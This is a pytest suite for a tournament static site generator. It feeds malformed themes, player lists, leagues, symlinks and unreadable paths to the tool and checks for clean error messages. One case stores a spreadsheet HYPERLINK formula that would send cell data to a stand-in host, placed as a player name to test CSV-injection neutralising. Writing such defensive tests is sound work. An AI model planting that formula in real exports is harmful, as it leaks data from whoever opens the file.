case("joust elim-2 after an elim-1 with no winner", write={JE1: "tables:\n  - table: 1\n    players: [ann, ben]\n",
                                                         f"{J}/elim-2.yaml": FILES[JE1]}, at=(f"{J}/elim-2.yaml", 1),
     msg="elim-1.yaml still has a table without a result", cmds=("check", "build", ("standings", J)))
case("vtes elim file", write={f"{V}/elim-1.yaml": FILES[VF]}, at=(f"{V}/elim-1.yaml", 1), msg="no elimination rounds")

# -- themes ------------------------------------------------------------------------------------------
KIND = "themes"
MINE = sub(SITE, "theme: default", "theme: mine")
case("template syntax error", write=MINE | {"themes/mine/templates/page.html": '{% extends "base.html" %}\n{% block main %}\n{% if %}\n{% endblock %}\n'},
     at=("themes/mine/templates/page.html", 3), msg="template error", cmds=("check", "build"))
case("template undefined variable", write=MINE | {"themes/mine/templates/page.html": '{% extends "base.html" %}\n{% block main %}\n<p>{{ nosuch.deeper }}</p>\n{% endblock %}\n'},
     at=("themes/mine/templates/page.html", 3), msg="template error", cmds=("check", "build"))
case("template runtime error", write=MINE | {"themes/mine/templates/page.html": '{% extends "base.html" %}\n{% block main %}\n\n<p>{{ 1 // 0 }}</p>\n{% endblock %}\n'},
     at=("themes/mine/templates/page.html", 4), msg="template error", cmds=("check", "build"))
case("template extends a missing one", write=MINE | {"themes/mine/templates/page.html": '{% extends "nosuch.html" %}\n'},
     at=("themes/mine/templates/page.html", 1), msg="nosuch.html", cmds=("check", "build"))
case("template reads a missing static file", write=MINE | {"themes/mine/templates/page.html": '{% extends "base.html" %}\n{% block main %}\n{{ static_text("nosuch.css") }}\n{% endblock %}\n'},
     at=("themes/mine/templates/page.html", 3), msg="nosuch.css", cmds=("check", "build"))
case("template not UTF-8", write=MINE | {"themes/mine/templates/page.html": b"\xff\xfe{{ body_html }}\n"},
     at=("themes/mine/templates/page.html", 1), msg="not UTF-8", cmds=("check", "build"))
case("symlink loop in the theme", write=MINE, link={"themes/mine/templates/x.html": ("in", "x.html")},
     at=("themes/mine/templates/x.html", 1), msg="does not exist", cmds=("check", "build"))
case("a theme of its own", write=MINE | {"themes/mine/templates/page.html": THEME["templates/page.html"]}, exit=0, cmds=("check", "build"),
     why_ok="a theme that overrides one template; the rest comes from the default theme")

# -- players.yaml and leagues ---------------------------------------------------------------------
KIND = "players.yaml and leagues"
PEOPLE, LEAGUE = "players.yaml", "leagues/season.yaml"
case("players.yaml without a list", write={PEOPLE: "players: nobody\n"}, at=(PEOPLE, 1), msg="needs a 'players:' list")
case("players.yaml repeats an id", write={PEOPLE: "players:\n  - {id: ann, name: Ann}\n  - {id: ann, name: Ann B}\n"},
     at=(PEOPLE, 3), msg="the id 'ann' is already given at line 2")
case("players.yaml repeats an alias", write={PEOPLE: "players:\n  - {id: ann, name: Ann, aliases: [A.]}\n  - {id: ben, name: Ben, aliases: [A.]}\n"},
     at=(PEOPLE, 3), msg="the alias 'A.' is already given at line 2")
case("players.yaml unknown key", write={PEOPLE: "players:\n  - {id: ann, name: Ann, vekm: '3200001'}\n"}, at=(PEOPLE, 2), msg="unknown key 'vekm'")
case("players.yaml bad V:EKN number", write={PEOPLE: "players:\n  - {id: ann, name: Ann, vekn: 12}\n"}, at=(PEOPLE, 2), msg="is not a V:EKN number")
for number in ("abc", "12", "'123456789'", "'3200 123'"):
    case(f"vekn: {number} in event.yaml", write=sub(VEV, 'vekn: "1000001"', f"vekn: {number}"), at=(VEV, 7), msg="is not a V:EKN number",
         cmds=("check", "build", ("standings", V), ("export", V)))
case("vekn: abc for a player in players.yaml only", write=sub(VEV, '    vekn: "1000001"\n', "") | {PEOPLE: "players:\n  - {id: ida, name: Ida, vekn: abc}\n"},
     at=(PEOPLE, 2), msg="is not a V:EKN number", cmds=("check", "build", ("export", V)))
case("event names a known id otherwise", write={PEOPLE: "players:\n  - {id: ann, name: Annabel}\n"}, at=(JEV, 7),
     msg="is named 'Ann' here but 'Annabel' in")
case("league without a name", write={LEAGUE: "events: [j]\npoints: [3, 1]\n"}, at=(LEAGUE, 1), msg="missing 'name'")
case("league lists a missing event", write={LEAGUE: "name: S\nevents:\n  - j\n  - jj\n"}, at=(LEAGUE, 4), msg="no event folder named 'jj'")
case("league unknown scheme", write={LEAGUE: "name: S\nevents: [j]\nscheme: elo\npoints: [3]\n"}, at=(LEAGUE, 3), msg="unknown scheme 'elo'")
case("league negative points", write={LEAGUE: "name: S\nevents: [j]\npoints: [3, -1]\n"}, at=(LEAGUE, 3), msg="'points' is a list of whole numbers")
case("league unknown tiebreaker", write={LEAGUE: "name: S\nevents: [j]\npoints: [3]\ntiebreakers: [coin]\n"}, at=(LEAGUE, 4),
     msg="'tiebreakers' is a list of different ones")
case("league tiebreaker as a list", write={LEAGUE: "name: S\nevents: [j]\npoints: [3]\ntiebreakers: [[events]]\n"}, at=(LEAGUE, 4),
     msg="'tiebreakers' is a list of different ones")
case("league filter date", write={LEAGUE: "name: S\nevents:\n  format: vtes\n  from: soon\npoints: [3]\n"}, at=(LEAGUE, 4), msg="'from: soon' is not a date")
case("vekn-rating league with points", write={LEAGUE: "name: R\nscheme: vekn-rating\nevents: {format: vtes}\npoints: [3]\n"},
     at=(LEAGUE, 4), msg="remove 'points'")
case("league file not yaml", write={"leagues/notes.txt": "notes\n"}, at=("leagues/notes.txt", 1), msg="not a league file")
case("an alias in an event", write={PEOPLE: "players:\n  - {id: ann, name: Annabel, aliases: [Ann]}\n",
                                    LEAGUE: "name: S\nevents: {format: agot-joust}\npoints: [3, 1]\n"}, exit=0,
     why_ok="an event may spell a known player's name as one of their aliases; a league may filter by format alone")

# -- acceptable oddities -----------------------------------------------------------------------------
KIND = "acceptable oddities"
case("byte order mark", write={JR2: "\ufeff" + FILES[JR2]}, exit=0, why_ok="editors on Windows write it; YAML ignores it")
case("windows line endings", write={JR2: FILES[JR2].replace("\n", "\r\n"), PAGE: FILES[PAGE].replace("\n", "\r\n")}, exit=0,
     why_ok="text files from Windows editors; read as text they are the same lines")
case("a README in the events folder", write={"events/README.md": "notes\n", f"{J}/notes.txt": "notes\n"}, exit=0,
     why_ok="only folders are events and only .yaml files are rounds; other files are the TO's notes")
case("unicode in a page and a name", write=sub(PAGE, "Plain page.", "Ünïcödé 🎲 ⚔️ 中文") | sub(VEV, "  - name: Max", "  - name: Mäx 🎲\n    id: max"), exit=0,
     why_ok="text may be any Unicode; ids stay ASCII")
case("formula in a name", write=sub(VEV, "  - name: Max", "  - name: \"=HYPERLINK(\\\"http://x/?\\\"&A1)\"\n    id: max"), exit=0, cmds=("check", "build", ("export", V)),
     why_ok="a name may be any text; the CSV files neutralise it (tests/test_csv_injection.py)")


def _make_link(path: Path, spec: tuple, outside: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    kind = spec[0]
    if kind == "dangling":
        path.symlink_to(outside / "nothing-here" / path.name)
    elif kind == "in":
        path.symlink_to(spec[1])
    elif kind == "out":
        target = outside / f"{path.name}.{len(list(outside.iterdir()))}"
        target.write_text(spec[1], encoding="utf-8")
        path.symlink_to(target)
    else:
        target = outside / f"dir{len(list(outside.iterdir()))}"
        write(target, spec[1])
        path.symlink_to(target, target_is_directory=True)


@pytest.fixture(scope="module")
def good_build(tmp_path_factory):
    """The valid site and its output, built once; every case starts from copies of both."""
    root = tmp_path_factory.mktemp("good")
    content = write(root / "content")
    assert main(["build", "--content", str(content), "--output", str(root / "output"), "--cache", str(root / "cache")]) == 0
    return root, snapshot(root / "output")


def _run(argv: list[str], capsys) -> tuple[int, str]:
    def hang(*_):
        raise TimeoutError(f"no answer after {TIMEOUT} s")

    previous = signal.signal(signal.SIGALRM, hang)
    signal.alarm(TIMEOUT)
    try:
        status = main(argv)
    except BaseException:  # a user mistake must never end in a traceback (or a hang)
        pytest.fail(f"sitegen {' '.join(argv)} raised:\n{traceback.format_exc()}\nstderr: {capsys.readouterr().err}")
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
    return status, capsys.readouterr().err


def _outside_files(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*")
            if not p.relative_to(root).as_posix().startswith(("content", "output", ".sitegen-cache"))}


def _params() -> list:
    """Every case; beyond the first three of each kind they are `slow`: make test-fast tries each kind of mistake."""
    seen: dict[str, int] = {}
    params = []
    for c in CASES:
        seen[c.kind] = seen.get(c.kind, 0) + 1
        params.append(pytest.param(c, id=c.name, marks=[pytest.mark.slow] if seen[c.kind] > 3 else []))
    return params


def test_the_corpus_is_big_enough():
    assert len(CASES) >= 150
    assert len({c.name for c in CASES}) == len(CASES), "case names must be unique"
    assert all(c.why_ok for c in CASES if c.exit == 0), "an accepted input says why it is acceptable"
    kinds = {c.kind for c in CASES}
    assert all(sum(c.kind == kind for c in CASES) >= 5 for kind in kinds), "every kind of mistake is tried several ways"


@pytest.mark.parametrize("c", _params())
def test_bad_input(c: Case, good_build: tuple[Path, dict[str, bytes]], tmp_path: Path, capsys):
    good, before = good_build
    content, output, outside = tmp_path / "content", tmp_path / "output", tmp_path / "outside"
    # Hard links are quick and safe here: sitegen replaces files by renaming, and the case unlinks before writing.
    shutil.copytree(good / "content", content, copy_function=os.link)
    shutil.copytree(good / "output", output, copy_function=os.link)
    outside.mkdir()
    for rel in c.delete:
        path = content / rel
        shutil.rmtree(path) if path.is_dir() and not path.is_symlink() else path.unlink()
    for rel in c.mkdir:
        (content / rel).mkdir(parents=True)
    for rel, text in c.write.items():
        (content / rel).parent.mkdir(parents=True, exist_ok=True)
        (content / rel).unlink(missing_ok=True)
        (content / rel).write_bytes(text if isinstance(text, bytes) else text.encode())
    for rel, spec in c.link.items():
        _make_link(content / rel, spec, outside)
    others = _outside_files(tmp_path)
    for cmd in c.cmds:
        argv = {"check": ["check", "--content", str(content)], "build": ["build", "--content", str(content), "--output", str(output)]}.get(cmd)
        argv = argv or [cmd[0], str(content / cmd[1])]
        status, err = _run(argv, capsys)
        assert status == c.exit, f"sitegen {' '.join(argv)}: exit {status}, expected {c.exit}\n{err}"
        if c.exit == 2:
            assert "Traceback" not in err
            if c.at:
                expected = f"{content / c.at[0]}:{c.at[1]}: "
                lines = [line for line in err.splitlines() if line.startswith(expected)]
                assert lines, f"sitegen {argv[0]}: no line starting '{expected}' in:\n{err}"
                assert any(c.msg in line for line in lines), f"no '{c.msg}' in:\n{err}"
    if c.exit == 2:
        assert snapshot(output) == before, "the last good build's output changed"
    assert not [p for p in output.rglob("*.tmp")], "a temporary file was left in output/"
    assert _outside_files(tmp_path) == others, "a file was written outside the output folder"


def test_a_manifest_line_naming_a_folder_is_not_removed(good_build, tmp_path, capsys):
    """Issue 20: a hand-edited manifest listing a folder used to end the build in a traceback."""
    good, before = good_build
    content, output = tmp_path / "content", tmp_path / "output"
    shutil.copytree(good / "content", content)
    shutil.copytree(good / "output", output)
    with open(output / ".sitegen-files", "a", encoding="utf-8") as manifest:
        manifest.write("events\n")
    status, err = _run(["build", "--content", str(content), "--output", str(output)], capsys)
    assert status == 0, err
    assert (output / "events/j/index.html").is_file()


def test_export_onto_a_folder_is_refused(good_build, tmp_path, capsys):
    good, _ = good_build
    status, err = _run(["export", str(good / "content" / V), "--output", str(tmp_path)], capsys)
    assert status == 2 and "is a folder; give the file to write" in err, err


@pytest.mark.parametrize("target", ["site.yaml/standings.csv", "events/v/event.yaml/x/standings.csv"])
def test_export_into_a_path_through_a_file_is_refused(good_build, tmp_path, capsys, target):
    """Issue 20: `export --output` through a file where a folder should be ended in a traceback (FileExistsError)."""
    good, _ = good_build
    content = tmp_path / "content"
    shutil.copytree(good / "content", content)
    before = snapshot(content)
    status, err = _run(["export", str(content / V), "--output", str(content / target)], capsys)
    assert status == 2 and f"--output {content / target}: " in err and "is a file, not a folder" in err, err
    assert snapshot(content) == before


@pytest.mark.parametrize("flags, msg", [(["--player", ""], "gives no usable id"), (["--player", "A", "--rounds", "-1"], "at least 1 round"),
                                        (["--player", "A", "--cut", "-2"], "the cut is 0"),
                                        (["--player", "Ann\x1b[31m"], "control character"), (["--name", "Night\x07"], "control character"),
                                        (["--player", "Ann", "--player", "ANN"], "duplicate player id 'ann'"), (["--name", " "], "has no value")])
def test_new_refuses_what_check_would_refuse(tmp_path, capsys, flags, msg):
    """Issue 20: `new --player ""` and `new --rounds -1` used to write an event.yaml that `check` refuses."""
    folder = tmp_path / "content" / "events" / "n-x"
    status, err = _run(["new", str(folder), *flags], capsys)
    assert status == 2 and msg in err, err
    assert not (folder / "event.yaml").exists()


def test_a_folder_sitegen_may_not_write_is_answered_not_a_traceback(good_build, tmp_path, capsys, monkeypatch):
    """Issue 20: `result` in a read-only event folder ended in a traceback. Root writes whatever the modes say, so the
    refusal of the file system is made here by hand (the chmod test below runs it for real as another user)."""
    import sitegen.edit.commit as commit

    good, _ = good_build
    content = tmp_path / "content"
    shutil.copytree(good / "content", content)

    def refused(path, data):
        raise PermissionError(13, "Permission denied", str(path))

    (content / JE1).unlink()  # the new result changes who makes the cut
    monkeypatch.setattr(commit, "write_atomic", refused)
    before = snapshot(content)
    status, err = _run(["result", str(content / J), "1", "--round", "2", "--winner", "cat"], capsys)
    assert status == 2 and "permission denied" in err and "Traceback" not in err, err
    assert snapshot(content) == before


THEMED = {"themes/mine/templates/page.html": '{% extends "base.html" %}\n{% block main %}{{ static_text("x.css") }}{% endblock %}\n',
          "themes/mine/static/x.css": "a{}\n"}


@pytest.mark.parametrize("rel, at", [(SITE, SITE), ("players.yaml", "players.yaml"), (J, J), (JEV, JEV), (JR1, JR1), ("events", "events"),
                                     ("pages", "pages"), (PAGE, PAGE), ("leagues", "leagues"), ("themes/mine/templates/page.html", None),
                                     ("themes/mine/templates", None), ("themes/mine/static/x.css", None), ("themes/mine/static", None)])
def test_what_this_user_may_not_read_is_answered_at_its_path(good_build, tmp_path, capsys, monkeypatch, rel, at):
    """Issue 20: a file or folder sitegen may not read, answered at its path with exit 2 and the last build kept. Run as
    root too: `unreadable` makes the file system refuse it in this process as it refuses a `chmod 000` path to another
    user (the chmod test below does it for real, as a user other than root)."""
    good, before = good_build
    content, output = tmp_path / "content", tmp_path / "output"
    shutil.copytree(good / "content", content)
    shutil.copytree(good / "output", output)
    write(content, (THEMED | sub(SITE, "theme: default", "theme: mine")) if rel.startswith("themes") else {})
    write(content, {"players.yaml": "players: []\n", "leagues/season.yaml": "name: S\nevents: [j]\npoints: [3, 1]\n"})
    unreadable(monkeypatch, content / rel)
    shown = str(content / (at or rel))
    for argv in (["check", "--content", str(content)], ["build", "--content", str(content), "--output", str(output)],
                 *([["standings", str(content / J)]] if rel.startswith((J, "players")) else [])):
        status, err = _run(argv, capsys)
        assert status == 2 and "Traceback" not in err, err
        where = f"{shown}:1: " if at else shown  # a theme's file is named by the path the refusal came from, inside it
        assert err.startswith(where) and ("ermission denied" in err.splitlines()[0]), f"sitegen {argv[0]}: {err}"
    assert snapshot(output) == before


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads and writes files whatever their modes: chmod cannot make them unreadable")
@pytest.mark.parametrize("rel", [SITE, "players.yaml", J, JR1, "pages"])
def test_an_unreadable_file_or_folder_is_answered_not_a_traceback(good_build, tmp_path, capsys, rel):
    good, before = good_build
    content, output = tmp_path / "content", tmp_path / "output"
    shutil.copytree(good / "content", content)
    shutil.copytree(good / "output", output)
    (content / rel).touch(exist_ok=True) if rel == "players.yaml" else None
    os.chmod(content / rel, 0)
    try:
        for argv in (["check", "--content", str(content)], ["build", "--content", str(content), "--output", str(output)]):
            status, err = _run(argv, capsys)
            assert status == 2 and "Traceback" not in err, err
        assert snapshot(output) == before
    finally:
        os.chmod(content / rel, 0o755)
